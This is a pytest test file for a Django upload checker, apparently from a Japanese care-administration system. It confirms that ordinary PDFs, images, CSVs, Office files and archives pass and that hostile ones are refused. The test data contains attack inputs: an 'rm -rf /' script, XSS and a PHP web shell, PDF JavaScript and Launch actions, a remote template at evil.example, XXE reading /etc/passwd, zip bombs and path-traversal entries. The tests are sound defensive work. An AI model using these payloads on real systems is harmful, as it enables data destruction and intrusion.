"""Uploads: what people really hand in is taken, and each kind of bad file is refused with a reason and a way out."""

import io
import struct
import tracemalloc
import zipfile
import zlib

import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test.utils import override_settings
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from audit.files import check_upload
from audit.formfields import UploadField, checked
from audit.uploads import Kind, archives, images
from kaigo.common.refusal import Refusal

ALL = tuple(Kind)
CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def upload(name, content):
    return SimpleUploadedFile(name, content)


def check(name, content, kinds=ALL, **more):
    return check_upload(upload(name, content), kinds, **more)


def refused(name, content, kinds=ALL, **more):
    """The code of the refusal, whose sentence and way out are in Japanese."""
    with pytest.raises(Refusal) as error:
        check(name, content, kinds, **more)
    assert error.value.message.endswith("。")
    assert not any(letter in error.value.message for letter in "\x00<>")
    return error.value.code


def pdf(**encrypt):
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if encrypt:
        writer.encrypt(**encrypt)
    return written(writer)


def written(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def acting_pdf(action):
    """A PDF that does something when it is opened."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return written(writer)


def action(kind, **more):
    values = {NameObject("/S"): NameObject(kind), NameObject("/JS"): TextStringObject("app.alert(1)")}
    return DictionaryObject(values | {NameObject(f"/{k}"): v for k, v in more.items()})


def image(kind="PNG", size=(20, 10)):
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, kind)
    return out.getvalue()


def packed(entries, *, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def office(main="xl/workbook.xml", **more):
    parts = {"[Content_Types].xml": CONTENT_TYPES, main: b"<workbook/>"}
    return packed(parts | {name.replace("__", "/"): content for name, content in more.items()})


class TestWhatPeopleHandIn:
    @pytest.mark.parametrize(
        ("name", "content", "kind"),
        [
            ("誓約書.pdf", pdf(), Kind.PDF),
            ("SCAN.PDF", pdf(), Kind.PDF),
            ("a.png", image(), Kind.PNG),
            ("a.jpg", image("JPEG"), Kind.JPEG),
            ("a.jpeg", image("JPEG"), Kind.JPEG),
            ("a.csv", '氏名,カナ\r\n"山﨑\t花子",ヤマザキ\r\n'.encode(), Kind.CSV),
            ("bom.csv", "\ufeff氏名\r\n".encode(), Kind.CSV),
            ("a.xlsx", office(), Kind.XLSX),
            ("a.docx", office("word/document.xml"), Kind.DOCX),
            ("a.zip", packed({"資料/a.csv": "氏名\n".encode(), "b.pdf": pdf()}), Kind.ZIP),
            ("..\\..\\x.pdf", pdf(), Kind.PDF),
        ],
        ids=lambda value: value if isinstance(value, str) else "",
    )
    def test_is_taken_for_what_it_is(self, name, content, kind):
        file = upload(name, content)
        found = check_upload(file, ALL)
        assert (found.kind, found.content_type, found.size) == (kind, kind.content_type, len(content))
        assert file.read() == content  # left at its beginning, untouched

    def test_a_pdf_that_opens_without_a_password_is_readable(self):
        assert check("a.pdf", pdf(user_password="", owner_password="x")).kind is Kind.PDF

    def test_a_link_in_a_pdf_is_no_harm(self):
        writer = PdfWriter()
        page = writer.add_blank_page(200, 200)
        link = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action("/URI")})
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
        assert check("a.pdf", written(writer)).kind is Kind.PDF

    def test_a_letter_cut_by_the_end_of_a_chunk_is_whole(self):
        assert check("a.csv", b"x" + "あ".encode() * 50_000).kind is Kind.CSV


class TestNamesAndSizes:
    def test_an_empty_file(self):
        assert refused("a.pdf", b"") == "file-empty"

    def test_a_file_over_the_limit_of_the_place(self):
        assert refused("a.csv", b"x" * 2_000_001, largest=2_000_000) == "file-large"

    @override_settings(UPLOAD_MAX_MB=1)
    def test_a_file_over_the_limit_of_the_house(self):
        assert refused("a.csv", b"x" * (1 << 20) + b"x") == "file-large"
        assert check("a.csv", b"x" * (1 << 20)).size == 1 << 20

    @pytest.mark.parametrize("name", ["a.txt", "a", "a.pdf.exe", "a.pdf ", "a.", "", "a.pdf\x00.csvx", "a.xlsm"])
    def test_a_name_that_is_not_taken(self, name):
        file = upload("x", b"text")
        file._name = name
        with pytest.raises(Refusal) as error:
            check_upload(file, ALL)
        assert error.value.code == "file-kind"

    def test_a_kind_that_this_place_does_not_take(self):
        assert refused("a.png", image(), (Kind.PDF, Kind.CSV)) == "file-kind"

    @pytest.mark.parametrize(
        ("name", "content", "code"),
        [
            ("a.pdf", image(), "file-other"),
            ("a.png", image("JPEG"), "file-other"),
            ("a.jpg", pdf(), "file-other"),
            ("a.csv", pdf(), "file-other"),
            ("a.csv", packed({"a": b"x"}), "file-other"),
            ("a.pdf", b"just text", "file-broken"),
            ("a.png", b"\x89PNX", "file-broken"),
            ("a.xlsx", b"name,value\n", "file-broken"),
            ("a.pdf", b"\n" + pdf(), "file-broken"),
        ],
    )
    def test_a_content_that_its_name_hides(self, name, content, code):
        assert refused(name, content) == code


class TestPrograms:
    @pytest.mark.parametrize("name", ["a.pdf", "a.csv", "a.png", "a.exe", "a.zip"])
    @pytest.mark.parametrize("content", [b"MZ\x90\x00" + b"x" * 80, b"\x7fELF" + b"x" * 80, b"#!/bin/sh\nrm -rf /\n"])
    def test_whatever_they_are_called(self, name, content):
        assert refused(name, content) == "file-program"

    @pytest.mark.parametrize("name", ["a.pdf", "a.csv", "a.png", "a.svg", "a.html"])
    @pytest.mark.parametrize(
        "content",
        [
            b"<html><script>alert(1)</script>",
            b"\n \t<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>",
            b"\xef\xbb\xbf<!DOCTYPE html>",
            b"<?php system($_GET['x']);",
            "<script>".encode("utf-16"),
        ],
    )
    def test_pages_and_drawings_with_script(self, name, content):
        assert refused(name, content) == "file-markup"

    @pytest.mark.parametrize("name", ["a.xls", "a.xlsx", "a.doc", "a.docx"])
    def test_office_documents_of_old_or_locked(self, name):
        assert refused(name, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600) == "file-old-office"


class TestTwoFilesInOne:
    @pytest.mark.parametrize("name", ["a.pdf", "a.png", "a.jpg", "a.csv"])
    def test_an_archive_behind_another_file(self, name):
        front = {"a.pdf": pdf(), "a.png": image(), "a.jpg": image("JPEG"), "a.csv": b"a,b\n"}[name]
        assert refused(name, front + packed({"a.class": b"x"})) == "file-two"

    def test_something_behind_a_png(self):
        assert refused("a.png", image() + b"anything") == "file-two"

    @pytest.mark.parametrize("kind", ["PNG", "JPEG"])
    def test_a_script_in_a_picture(self, kind):
        ending = {"PNG": "png", "JPEG": "jpg"}[kind]
        note = b"<ScRiPt>alert(1)</script>"
        content = image(kind)
        if kind == "PNG":
            chunk = b"tEXt" + b"Comment\x00" + note
            added = struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk))
            content = content[:33] + added + content[33:]
        else:
            content = content[:2] + b"\xff\xfe" + struct.pack(">H", len(note) + 2) + note + content[2:]
        assert refused(f"a.{ending}", content) == "file-markup"

    def test_a_script_across_two_pieces_of_reading(self, monkeypatch):
        monkeypatch.setattr(images, "CHUNK", 16)
        assert refused("a.jpg", image("JPEG") + b"x" * 9 + b"<script>") == "file-markup"

    def test_a_page_at_the_head_of_a_pdf(self):
        content = pdf()
        head, rest = content.split(b"\n", 1)
        assert refused("a.pdf", head + b"\n%<script>alert(1)</script>\n" + rest) == "file-active"

    def test_an_archive_behind_something(self):
        assert refused("a.zip", packed({"a.csv": b"x"}, method=zipfile.ZIP_STORED)[4:] + b"x") == "file-broken"
        assert refused("a.zip", b"PK\x03\x04" + b"x" * 100 + packed({"a.csv": b"x"})) == "file-broken"


class TestPictures:
    @pytest.mark.parametrize("kind", ["PNG", "JPEG"])
    def test_cut_short(self, kind):
        ending = {"PNG": "png", "JPEG": "jpg"}[kind]
        content = image(kind, (400, 400))
        assert refused(f"a.{ending}", content[:20]) == "file-broken"

    def test_a_png_without_its_end(self):
        assert refused("a.png", image(size=(400, 400))[:-14]) == "file-broken"

    def test_a_changed_png(self):
        content = bytearray(image())
        content[18] ^= 0xFF
        assert refused("a.png", bytes(content)) == "file-broken"

    def test_one_that_would_fill_the_memory(self):
        header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
        chunk = b"IHDR" + header
        bomb = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk))
        assert refused("a.png", bomb + image()[33:]) in ("file-pixels", "file-broken")

    def test_many_dots_are_counted_before_they_are_drawn(self, monkeypatch):
        monkeypatch.setattr(images, "PIXELS", 199)
        assert refused("a.png", image(size=(20, 10))) == "file-pixels"


class TestDocuments:
    def test_locked(self):
        assert refused("a.pdf", pdf(user_password="secret")) == "file-locked"

    def test_cut_short(self):
        assert refused("a.pdf", pdf()[:200]) == "file-broken"

    @pytest.mark.parametrize("content", [b"%PDF-1.7\n%%EOF", b"%PDF-1.7\ntrailer<</Root 1 0 R>>\n%%EOF"])
    def test_without_pages(self, content):
        assert refused("a.pdf", content) in ("file-broken", "file-pages")

    @pytest.mark.parametrize("kind", ["/JavaScript", "/Launch", "/SubmitForm", "/ImportData"])
    def test_that_acts_when_it_is_opened(self, kind):
        assert refused("a.pdf", acting_pdf(action(kind))) == "file-active"

    def test_that_acts_at_a_later_step(self):
        later = action("/URI", Next=ArrayObject([action("/Named", Next=action("/JavaScript"))]))
        assert refused("a.pdf", acting_pdf(later)) == "file-active"

    def test_a_chain_of_steps_without_an_end(self):
        step = action("/Named")
        for _ in range(150):
            step = action("/Named", Next=step)
        assert refused("a.pdf", acting_pdf(step)) == "file-active"

    def test_with_a_script_of_its_own(self):
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        scripts = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), action("/JavaScript")])})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): scripts})
        assert refused("a.pdf", written(writer)) == "file-active"

    def test_with_a_file_inside(self):
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        writer.add_attachment("x.exe", b"MZ")
        assert refused("a.pdf", written(writer)) == "file-active"

    @pytest.mark.parametrize("where", ["A", "AA"])
    def test_with_a_field_that_runs_something(self, where):
        writer = PdfWriter()
        page = writer.add_blank_page(200, 200)
        run = action("/JavaScript")
        held = run if where == "A" else DictionaryObject({NameObject("/F"): run})
        field = DictionaryObject({NameObject("/Subtype"): NameObject("/Widget"), NameObject(f"/{where}"): held})
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(field)])
        assert refused("a.pdf", written(writer)) == "file-active"

    @pytest.mark.parametrize("kind", ["/FileAttachment", "/RichMedia", "/3D"])
    def test_with_things_on_its_pages(self, kind):
        writer = PdfWriter()
        page = writer.add_blank_page(200, 200)
        mark = DictionaryObject({NameObject("/Subtype"): NameObject(kind)})
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(mark)])
        assert refused("a.pdf", written(writer)) == "file-active"

    def test_with_a_form_that_is_a_program(self):
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/XFA"): ArrayObject([TextStringObject("x")])}
        )
        assert refused("a.pdf", written(writer)) == "file-active"


class TestText:
    @pytest.mark.parametrize("content", ["氏名,カナ\r\n".encode("cp932"), b"a,b\n\xff\xfe\n", "あ".encode()[:2]])
    def test_in_another_code(self, content):
        assert refused("a.csv", content) == "file-encoding"

    @pytest.mark.parametrize("content", [b"a,b\x00\n", b"a\x1b[2J\n", b"\x01\x02"])
    def test_with_controls(self, content):
        assert refused("a.csv", content) == "file-binary"

    def test_the_encoding_is_looked_at_to_the_end(self):
        assert refused("a.csv", b"a,b\n" * 100_000 + b"\x82\xa0") == "file-encoding"


class TestArchives:
    def test_a_bomb_is_found_without_being_unpacked(self):
        content = packed({"a.csv": b"0" * (120 << 20)})
        assert len(content) < 200_000
        tracemalloc.start()
        try:
            assert refused("a.zip", content) == "file-bomb"
            assert tracemalloc.get_traced_memory()[1] < 20 << 20
        finally:
            tracemalloc.stop()

    def test_a_bomb_that_lies_about_its_size(self):
        """The directory says 10 bytes, the entry holds eight million."""
        content = bytearray(packed({"a.csv": b"0" * 8_000_000}))
        for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            place = content.index(signature) + offset
            content[place : place + 4] = struct.pack("<I", 10)
        assert refused("a.zip", bytes(content)) in ("file-broken", "file-bomb")

    def test_many_entries_that_are_large_together(self, monkeypatch):
        monkeypatch.setattr(archives, "UNPACKED", 1_000)
        entries = {f"{number}.csv": b"x" * 300 for number in range(4)}
        assert refused("a.zip", packed(entries)) == "file-bomb"

    def test_too_many_entries(self, monkeypatch):
        monkeypatch.setattr(archives, "ENTRIES", 3)
        assert refused("a.zip", packed({f"{number}.csv": b"x" for number in range(4)})) == "file-bomb"

    def test_entries_that_lie_on_top_of_each_other(self):
        """The directory names the same bytes many times: little to carry, much to unpack."""
        content = packed({"a.csv": b"x" * 5_000, "b.csv": b"y" * 5_000})
        second = content.index(b"PK\x01\x02", content.index(b"PK\x01\x02") + 1)
        changed = bytearray(content)
        changed[second + 42 : second + 46] = struct.pack("<I", 0)
        assert refused("a.zip", bytes(changed)) in ("file-bomb", "file-broken")

    @pytest.mark.parametrize(
        ("name", "content"),
        [
            ("b.zip", packed({"a": b"x"})),
            ("b.csv", packed({"a": b"x"})),
            ("b.csv", b"\x1f\x8b\x08rest"),
            ("b.7z", b"x"),
        ],
    )
    def test_archives_in_archives(self, name, content):
        assert refused("a.zip", packed({name: content})) == "file-nested"

    @pytest.mark.parametrize("name", ["a.exe", "a.js", "x/a.HTML", "a.svg", "a.lnk", "a.xlsm"])
    def test_programs_by_name(self, name):
        assert refused("a.zip", packed({name: b"x"})) == "file-program"

    def test_programs_by_content(self):
        assert refused("a.zip", packed({"a.csv": b"MZ\x90\x00"})) == "file-program"

    @pytest.mark.parametrize("name", ["../a.csv", "/etc/passwd", "x/../../a.csv", "C:/a.csv", "..\\a.csv"])
    def test_ways_out_of_the_folder(self, name):
        assert refused("a.zip", packed({name: b"x"})) == "file-broken"

    def test_a_link_to_elsewhere(self):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            entry = zipfile.ZipInfo("a.csv")
            entry.external_attr = 0o120777 << 16
            archive.writestr(entry, "/etc/passwd")
        assert refused("a.zip", out.getvalue()) == "file-broken"

    def test_locked(self):
        content = bytearray(packed({"a.csv": b"x"}))
        for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            content[content.index(signature) + offset] |= 1
        assert refused("a.zip", bytes(content)) == "file-locked"

    def test_the_same_name_twice(self):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("a.csv", "1")
            with pytest.warns(UserWarning, match="Duplicate"):
                archive.writestr("a.csv", "2")
        assert refused("a.zip", out.getvalue()) == "file-broken"

    def test_empty_cut_short_or_changed(self):
        assert refused("a.zip", packed({"a.csv": b"x" * 900})[:-30]) == "file-broken"
        changed = bytearray(packed({"a.csv": b"hello world"}, method=zipfile.ZIP_STORED))
        changed[changed.index(b"hello")] = ord("j")
        assert refused("a.zip", bytes(changed)) == "file-broken"


class TestOfficeDocuments:
    @pytest.mark.parametrize("name", ["xl/vbaProject.bin", "xl/VBAPROJECT.BIN", "word/vbaData.xml"])
    def test_macros(self, name):
        assert refused("a.xlsx", office(**{name: b"x"})) == "file-macro"

    def test_macros_by_their_declaration(self):
        declared = CONTENT_TYPES.replace(
            b"/>", b'><Default ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
        )
        assert refused("a.xlsx", packed({"[Content_Types].xml": declared, "xl/workbook.xml": b"<a/>"})) == "file-macro"

    @pytest.mark.parametrize(
        "name", ["xl/embeddings/oleObject1.bin", "xl/activeX/activeX1.xml", "xl/macrosheets/sheet1.xml"]
    )
    def test_active_parts(self, name):
        assert refused("a.xlsx", office(**{name: b"x"})) == "file-active"

    def test_a_template_from_elsewhere(self):
        link = (
            b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
            b' Target="http://evil.example/x.dotm" TargetMode="External"/>'
        )
        content = office("word/document.xml", **{"word/_rels/settings.xml.rels": link})
        assert refused("a.docx", content) == "file-active"

    @pytest.mark.parametrize("words", [b"<!DOCTYPE a [<!ENTITY b 'c'>]>", b"<!entity b SYSTEM 'file:///etc/passwd'>"])
    def test_declarations_that_fetch_or_grow(self, words):
        assert refused("a.xlsx", office(**{"xl/styles.xml": words})) == "file-active"

    @pytest.mark.parametrize(("name", "main"), [("a.xlsx", "word/document.xml"), ("a.docx", "xl/workbook.xml")])
    def test_one_that_is_the_other(self, name, main):
        assert refused(name, office(main)) == "file-broken"

    def test_an_archive_that_calls_itself_a_document(self):
        assert refused("a.xlsx", packed({"a.csv": b"x"})) == "file-broken"

    def test_a_document_that_grows_beyond_measure(self):
        assert refused("a.xlsx", office(**{"xl/worksheets/sheet1.xml": b"0" * (60 << 20)})) == "file-bomb"


class Form(forms.Form):
    scan = UploadField(label="写し", kinds=(Kind.PDF, Kind.PNG), largest=1 << 20)


class TestForms:
    def test_a_good_file_says_what_it_is(self):
        form = Form(files={"scan": upload("a.pdf", pdf())})
        assert form.is_valid()
        assert checked(form.cleaned_data["scan"]).kind is Kind.PDF

    def test_a_bad_one_is_an_error_at_the_field_with_a_way_out(self):
        form = Form(files={"scan": upload("a.pdf", b"<html>")})
        assert not form.is_valid()
        assert "PDFか画像" in form.errors["scan"][0]
        assert form.errors.as_data()["scan"][0].code == "file-markup"

    def test_the_browser_is_told_what_is_taken(self):
        html = str(Form()["scan"])
        assert 'accept=".pdf,.png"' in html
        assert "PDF、PNG画像" in Form().fields["scan"].help_text

    def test_no_file_is_an_ordinary_omission(self):
        assert Form(files={}).errors.as_data()["scan"][0].code == "required"


def test_every_form_of_the_house_takes_files_through_the_check():
    """Nobody reads an uploaded file that was not looked into."""
    from pathlib import Path

    from django.conf import settings

    rooms = ("audit", "eligibility", "levy", "certification", "recipients", "benefits", "linkage", "kaigo")
    sources = [path for room in rooms for path in (Path(settings.BASE_DIR) / room).rglob("*.py")]
    plain = [
        str(path)
        for path in sources
        if path.name != "formfields.py"
        and ("forms.FileField(" in (text := path.read_text("utf8")) or "forms.ImageField(" in text)
    ]
    assert plain == []
